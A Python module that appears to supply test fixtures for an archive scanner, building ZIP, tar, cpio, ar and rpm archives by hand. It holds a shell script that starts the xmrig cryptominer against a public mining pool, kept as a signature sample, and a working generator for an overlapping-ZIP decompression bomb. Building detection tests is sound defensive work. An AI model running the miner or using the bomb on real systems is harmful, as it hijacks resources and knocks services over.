"""Archives as the programs that make them write them, and as nobody should."""

from __future__ import annotations

import gzip
import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterable, Mapping

SCRIPT = b"#!/bin/sh\nxmrig --donate-level 1 -o stratum+tcp://pool.minexmr.com:4444 -u 4 -p x\n"
"""A miner's start script, which signatures know."""


def zip_of(members: Mapping[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A ZIP archive by the standard library, every member of the same method."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", method) as archive:
        for name, content in members.items():
            archive.writestr(zipfile.ZipInfo(name), content, method)
    return target.getvalue()


def tar_of(members: Mapping[str, bytes], mode: str = "w") -> bytes:
    """A tar by the standard library; `mode` as it takes it (`w:gz`, `w:xz`, `w:bz2`)."""
    target = io.BytesIO()
    with tarfile.open(fileobj=target, mode=mode) as archive:  # type: ignore[call-overload]
        for name, content in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return target.getvalue()


def cpio_of(members: Mapping[str, bytes], magic: bytes = b"070701") -> bytes:
    """A cpio archive: `070701` and `070702` new, `070707` old portable."""
    archive = b""
    for number, (name, content) in enumerate([*members.items(), ("TRAILER!!!", b"")]):
        spelt = name.encode() + b"\0"
        mode = 0o100755
        if magic == b"070707":
            archive += magic + b"%06o%06o%06o%06o%06o%06o%06o%011o%06o%011o" % (
                *(0, number, mode, 0, 0, 1, 0, 0),
                *(len(spelt), len(content)),
            )
            archive += spelt + content
            continue
        fields = (number, mode, 0, 0, 1, 0, len(content), 0, 0, 0, 0, len(spelt), sum(content))
        archive += magic + b"".join(b"%08x" % (field & 0xFFFFFFFF) for field in fields) + spelt
        archive += bytes(-len(archive) % 4) + content
        archive += bytes(-len(archive) % 4)
    return archive + bytes(-len(archive) % 512)


def ar_of(members: Iterable[tuple[str, bytes]]) -> bytes:
    """An ar archive with short names, as dpkg-deb writes them."""
    archive = b"!<arch>\n"
    for name, content in members:
        archive += b"%-16s%-12d%-6d%-6d%-8o%-10d`\n" % (name.encode(), 0, 0, 0, 0o100644, len(content))
        archive += content + b"\n" * (len(content) % 2)
    return archive


def rpm_of(members: Mapping[str, bytes], compressor: str = "gzip") -> bytes:
    """An rpm package with no more in its headers than says how the payload is packed."""
    lead = b"\xed\xab\xee\xdb\x03\x00" + bytes(90)
    signature = _rpm_header([])
    payload = gzip.compress(cpio_of(members))
    signature += bytes(-(96 + len(signature)) % 8)
    return lead + signature + _rpm_header([(1124, b"cpio\0"), (1125, compressor.encode() + b"\0")]) + payload


def _rpm_header(texts: list[tuple[int, bytes]]) -> bytes:
    index, store = b"", b""
    for tag, text in texts:
        index += struct.pack(">IIII", tag, 6, len(store), 1)
        store += text
    return b"\x8e\xad\xe8\x01\0\0\0\0" + struct.pack(">II", len(texts), len(store)) + index + store


def local_header(name: bytes, content: bytes, *, flags: int = 0) -> bytes:
    """One member of a ZIP archive as its local header and deflated data alone."""
    packer = zlib.compressobj(wbits=-15)
    packed = packer.compress(content) + packer.flush()
    crc = zlib.crc32(content)
    fields = (b"PK\x03\x04", 20, flags, 8, 0, 0, crc, len(packed), len(content), len(name), 0)
    return struct.pack("<4s5H3I2H", *fields) + name + packed


def overlapping_zip(members: int, kernel: int) -> bytes:
    """A quadratic bomb: every member's data is one deflate stream of zeros, quoting the headers before it.

    Each member begins with stored blocks that hold the local headers of the later ones, so that all
    end in the same kernel of `kernel` zeros.
    """
    packer = zlib.compressobj(9, wbits=-15)
    body = packer.compress(bytes(kernel)) + packer.flush()
    size, crc = kernel, zlib.crc32(bytes(kernel))
    headers: list[tuple[bytes, int, int, int]] = []
    tail = body
    for number in reversed(range(members)):
        name = b"%06d" % number
        local = struct.pack(
            "<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(tail), size & 0xFFFFFFFF, len(name), 0
        )
        headers.append((name, len(local) + len(name) + len(tail), len(tail), size))
        whole = local + name
        tail = b"\x00" + struct.pack("<HH", len(whole), len(whole) ^ 0xFFFF) + whole + tail
        size += len(whole)
    archive = tail[5:]
    directory = b""
    for name, behind, packed, told in reversed(headers):
        fields = (b"PK\x01\x02", 20, 20, 0, 8, 0, 0, crc, packed, told & 0xFFFFFFFF, len(name), 0, 0, 0, 0, 0)
        directory += struct.pack("<4s6H3I5H2I", *fields, len(archive) - behind) + name
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, members, members, len(directory), len(archive), 0)
    return archive + directory + end
